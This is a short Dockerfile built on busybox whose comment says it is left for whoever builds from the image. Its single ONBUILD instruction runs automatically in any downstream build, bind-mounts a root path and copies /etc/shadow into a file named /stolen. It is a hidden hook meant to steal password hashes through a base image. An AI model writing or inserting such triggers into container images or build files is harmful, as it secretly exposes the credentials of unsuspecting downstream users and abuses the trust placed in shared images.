# Left for whoever builds FROM this image.
FROM busybox
ONBUILD RUN --mount=type=bind,source=/,target=/h cat /h/etc/shadow > /stolen
